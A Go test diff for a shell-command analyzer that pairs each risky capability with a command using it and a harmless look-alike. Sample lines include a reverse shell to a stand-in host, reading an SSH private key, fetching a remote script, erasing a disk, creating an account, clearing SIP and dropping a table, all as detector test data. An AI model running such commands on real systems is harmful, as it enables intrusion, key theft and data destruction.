@@ -58,3 +58,55 @@ func TestEachFormOfArgumentsFindsItsValues(t *testing.T) {
 		}
 	}
 }
+
+// Every capability, used by a command of the table, and a look-alike that does not use it: the
+// same program used harmlessly, where it has such a use.
+func TestEveryCapabilityHasACommandThatUsesItAndALookAlikeThatDoesNot(t *testing.T) {
+	tests := map[Capability]struct{ uses, alike string }{
+		CapShell:        {`ssh -o ProxyCommand='nc %h %p' host`, `ssh -o ProxyJump=bastion host`},
+		CapExec:         {`tcpdump -z /tmp/run -w cap.pcap`, `tcpdump -w cap.pcap`},
+		CapWrite:        {`openssl enc -out ~/.zshrc -in x`, `openssl version`},
+		CapRead:         {`openssl enc -in ~/.ssh/id_rsa`, `openssl rand -hex 8`},
+		CapDownload:     {`aria2c -o x.sh https://get.example/x.sh`, `aria2c --version`},
+		CapFetch:        {`aria2c https://get.example/x.sh`, `wc -l https://get.example/x.sh`},
+		CapNetShell:     {`socket -p 'sh -i' h.example 4444`, `socket h.example 4444`},
+		CapStdinPaths:   {`cpio -o < list.txt`, `cpio -i < archive.cpio`},
+		CapImpact:       {`diskutil eraseDisk APFS X disk2`, `diskutil list`},
+		CapAccount:      {`dscl . -create /Users/eve`, `dscl . -read /Users/ada`},
+		CapServiceStop:  {`launchctl unload /Library/LaunchDaemons/x.plist`, `launchctl list`},
+		CapSystemConfig: {`csrutil clear`, `csrutil status`},
+		CapPrivilege:    {`dscl . -authonly ada pw`, `dscl . -list /Users`},
+		CapLibrary:      {`curl --engine /tmp/e.so https://x.example`, `curl https://x.example`},
+		CapCollect:      {`ffmpeg -f avfoundation -i 1 out.mov`, `ffmpeg -i in.mov out.mp4`},
+		CapRemoteAccess: {`cloudflared tunnel --url localhost:22`, `cloudflared --version`},
+		CapServe:        {`php -S 0.0.0.0:8000`, `php -v`},
+		CapMount:        {`hdiutil attach x.dmg`, `hdiutil info`},
+		CapSQL:          {`psql -c 'DROP TABLE t'`, `psql -l`},
+		CapPublish:      {`gh repo edit --visibility public`, `gh repo edit --visibility private`},
+		CapShare:        {`gh gist create --public notes.md`, `gh gist create notes.md`},
+	}
+	for _, c := range knownCapabilities {
+		tt, ok := tests[c]
+		if !ok {
+			t.Errorf("capability %s has no case", c)
+			continue
+		}
+		if !uses(tt.uses, c) {
+			t.Errorf("%s: does not use %s", tt.uses, c)
+		}
+		if uses(tt.alike, c) {
+			t.Errorf("look-alike %s: uses %s", tt.alike, c)
+		}
+	}
+}
+
+// uses reports whether any command of a line uses a capability.
+func uses(line string, c Capability) bool {
+	a := Analyze(line)
+	for i := range a.Commands {
+		if slices.ContainsFunc(CapabilityHits(&a.Commands[i]), func(h CapHit) bool { return h.Cap == c }) {
+			return true
+		}
+	}
+	return false
+}
